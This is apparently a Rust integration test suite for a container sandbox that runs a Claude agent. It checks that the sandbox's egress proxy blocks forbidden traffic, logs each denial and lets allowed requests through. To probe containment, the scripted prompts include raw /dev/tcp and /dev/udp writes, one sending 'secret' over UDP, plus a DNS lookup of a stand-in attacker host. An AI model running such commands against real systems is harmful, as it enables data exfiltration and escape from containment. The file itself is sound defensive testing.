//! What a bottle must not reach is not reached: the target saw no packet, while an allowed request beside it passed.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::print_stdout)] // tests

use anyhow::{Context, Result};
use bottle_tests::{
    bottle::{Home, KillOnDrop, REAL_TOKEN, assert_nothing_left, eventually, identity_in},
    lab::{HostCounter, Lab, Target},
    standin::Standin,
    wire::Authority,
};
use std::net::TcpListener;

struct Bottle {
    child: KillOnDrop,
    identity: String,
    bridge: String,
    addresses: Vec<String>,
}

/// A bottle whose Claude waits, with what the engine says of its networks.
fn waiting(lab: &Lab, home: &Home, go: &str) -> Result<Bottle> {
    let wait = format!("@@bash until [ -e {go} ]; do sleep 0.1; done");
    let child = home.start(&["start", "dev", "--yes", "--prompt", &wait], &[])?;
    let identity = eventually("the bottle is listed", || {
        let rows: serde_json::Value =
            serde_json::from_str(&home.run(&["list", "active", "--json"]).ok()?.stdout).ok()?;
        Some(rows.get(0)?["identity"].as_str()?.to_owned())
    })?;
    let label = format!("label=claude-bottle.identity={identity}");
    let internal =
        lab.docker(&["network", "ls", "-q", "--filter", &label, "--filter", "label=claude-bottle.role=internal"])?;
    let containers = lab.docker(&["ps", "-q", "--filter", &label])?;
    let mut addresses = vec![];
    for id in containers.lines() {
        let format = "{{range .NetworkSettings.Networks}}{{.IPAddress}} {{end}}";
        let found = lab.docker(&["inspect", "-f", format, id])?;
        addresses.extend(found.split_whitespace().map(str::to_owned));
    }
    Ok(Bottle { child, identity, bridge: format!("br-{}", internal.trim()), addresses })
}

#[test]
fn nothing_but_the_sidecar_is_within_reach() -> Result<()> {
    let (lab, authority) = (Lab::get(), Authority::new()?);
    let standin =
        Standin::start(&authority, &["api.anthropic.com", "allowed.example"], &format!("Bearer {REAL_TOKEN}"))?;
    let home = Home::new(lab, &authority, &standin)?;
    let routes =
        ["api.anthropic.com", "allowed.example"].map(|h| format!("{{host: {h}, address: {}}}", standin.address));
    home.bottle("box", &routes.each_ref().map(String::as_str))?;
    let target = Target::new()?;
    // The counter counts: one packet of ours is seen.
    let _ = std::net::UdpSocket::bind("0.0.0.0:0")?.send_to(b"x", (target.address, 9));
    eventually("the target's counter counts", || (target.packets().ok()? > 0).then_some(()))?;
    let before = target.packets()?;

    // Another bottle, and a listener on every address of this machine.
    let neighbours = Home::new(lab, &authority, &standin)?;
    let neighbour = waiting(lab, &neighbours, "/nowhere")?;
    let listener = TcpListener::bind("0.0.0.0:0")?;
    listener.set_nonblocking(true)?;
    let port = listener.local_addr()?.port();
    let machine = ["172.17.0.1", "198.51.100.1"];

    // The bottle under test is started first and told to go later, so that its bridge can be watched.
    let address = target.address;
    let connect =
        |ip: &str, port: u16| format!("timeout 3 bash -c 'echo hello > /dev/tcp/{ip}/{port}' 2>&1; echo rc=$?");
    let mut lines: Vec<String> = vec![
        "until curl -sf -m 2 https://allowed.example/go -o /dev/null || [ $? = 22 ]; do sleep 0.1; done; sleep 3"
            .into(),
        connect(&address.to_string(), 8000),
        connect(&address.to_string(), 443),
        format!("curl -sS -m 5 --noproxy '*' https://{address}/ 2>&1; echo rc=$?"),
        format!("curl -sS -m 5 http://{address}:8000/ ; echo; curl -sS -m 5 -k https://{address}/"),
        format!(
            "timeout 3 bash -c 'echo secret > /dev/udp/{address}/53'; timeout 3 bash -c 'echo > /dev/tcp/{address}/53' 2>&1; echo rc=$?"
        ),
        "getent hosts stolen-data.attacker.example; echo rc=$?".into(),
        "curl -sS -m 5 https://forbidden.example/; echo; curl -sS -m 5 https://allowed.example/yes".into(),
        "ping -c1 -W2 198.51.100.129 2>&1; ip route get 198.51.100.129 2>&1 | head -1; echo done".into(),
    ];
    let mut unreachable: Vec<String> = machine.iter().map(|ip| connect(ip, port)).collect();
    unreachable.extend(neighbour.addresses.iter().flat_map(|ip| [connect(ip, 9099), connect(ip, 53)]));
    let (first_unreachable, count) = (lines.len(), unreachable.len());
    lines.extend(unreachable);
    let prompt: String = lines.iter().map(|line| format!("@@bash {line}\n")).collect();

    let child = home.start(&["start", "dev", "--yes", "--prompt", &prompt], &[])?;
    let identity = eventually("the bottle is listed", || {
        let rows: serde_json::Value =
            serde_json::from_str(&home.run(&["list", "active", "--json"]).ok()?.stdout).ok()?;
        Some(rows.get(0)?["identity"].as_str()?.to_owned())
    })?;
    let filter = format!("label=claude-bottle.identity={identity}");
    let network =
        lab.docker(&["network", "ls", "-q", "--filter", &filter, "--filter", "label=claude-bottle.role=internal"])?;
    let bridge = format!("br-{}", network.trim());
    let mut counters = vec![];
    for ip in machine.iter().map(|ip| (*ip).to_owned()).chain(neighbour.addresses.iter().cloned()) {
        counters.push((ip.clone(), HostCounter::new(&["-i", &bridge, "-d", &ip])?));
    }
    let across = HostCounter::new(&["-i", &bridge, "-d", &format!("{address}/32")])?;
    let neighbours_bridge = HostCounter::new(&["-i", &neighbour.bridge, "-p", "tcp", "--dport", "9999"])?;
    let log = eventually("the egress log is there", || Some(home.egress_log()).filter(|log| log.len() > 4));
    let run = child.finish()?;
    let results = run.results().with_context(|| format!("{run:?}"))?;

    // Allowed: arrived. Refused by the proxy: told so, in words. Everything else: no packet.
    assert!(standin.seen().iter().any(|s| s.path == "/yes"), "the allowed request did not arrive: {results:?}");
    for (i, result) in results.iter().enumerate().skip(1).take(2) {
        assert!(result.contains("rc=1"), "{}: {result}", lines[i]);
    }
    assert!(!results[3].contains("rc=0"), "{}", results[3]);
    assert_eq!(results[4].matches("bottle_egress_denied").count(), 2, "{}", results[4]);
    assert!(results[5].contains("rc=1") || results[5].contains("rc=124"), "{}", results[5]);
    assert!(results[6].contains("rc=2"), "{}", results[6]);
    assert!(results[7].contains("\"rule\":\"host\""), "{}", results[7]);
    for (line, result) in lines.iter().zip(&results).skip(first_unreachable).take(count) {
        assert!(result.contains("rc=1"), "{line}: {result}");
    }
    assert_eq!(target.packets()?, before, "packets reached {address}: {:?}", target.seen());
    assert!(target.seen().is_empty(), "{:?}", target.seen());
    assert!(listener.accept().is_err(), "the machine's own listener was reached");
    for (ip, counter) in &counters {
        assert_eq!(counter.packets()?, 0, "packets to {ip} left the bottle");
    }
    assert_eq!((across.packets()?, neighbours_bridge.packets()?), (0, 0));

    // And it is all in the log.
    log.context("no egress log while the bottle ran")?;
    let denied: Vec<&str> = run.stderr.lines().filter(|line| line.contains("denied")).collect();
    let all = denied.join("\n");
    for what in
        ["forbidden.example:443 (host)", "stolen-data.attacker.example (dns)", &format!("{address}:8000 (host)")]
    {
        assert!(all.contains(what), "{what} is not in {}", run.stderr);
    }
    assert_eq!(run.code, Some(0));
    assert_nothing_left(lab, &home, &identity_in(&run.stderr)?)?;
    stop(lab, &neighbours, neighbour)
}

/// Ends a waiting bottle with SIGTERM, and sees that it leaves nothing either.
fn stop(lab: &Lab, home: &Home, bottle: Bottle) -> Result<()> {
    let pid = rustix::process::Pid::from_child(&bottle.child);
    rustix::process::kill_process(pid, rustix::process::Signal::TERM)?;
    let run = bottle.child.finish()?;
    assert_eq!(run.code, Some(128 + 15), "{run:?}");
    assert_nothing_left(lab, home, &bottle.identity)
}

#[test]
fn a_refusal_is_logged_while_the_bottle_runs() -> Result<()> {
    let (lab, authority) = (Lab::get(), Authority::new()?);
    let standin = Standin::start(&authority, &["api.anthropic.com"], &format!("Bearer {REAL_TOKEN}"))?;
    let home = Home::new(lab, &authority, &standin)?;
    let prompt = "@@bash curl -sS -m 5 'https://forbidden.example/a/path?with=query'; sleep 2";
    let child = home.start(&["start", "dev", "--yes", "--prompt", prompt], &[])?;
    let line = eventually("the refusal is in the log", || {
        home.egress_log().into_iter().find(|line| line["host"] == "forbidden.example:443")
    })?;
    assert_eq!((&line["decision"], &line["rule"], &line["status"]), (&"deny".into(), &"host".into(), &403.into()));
    assert_eq!((&line["method"], &line["path"]), (&"GET".into(), &"/a/path".into()));
    let run = child.finish()?;
    assert_eq!(run.code, Some(0), "{run:?}");
    assert_nothing_left(lab, &home, &identity_in(&run.stderr)?)
}
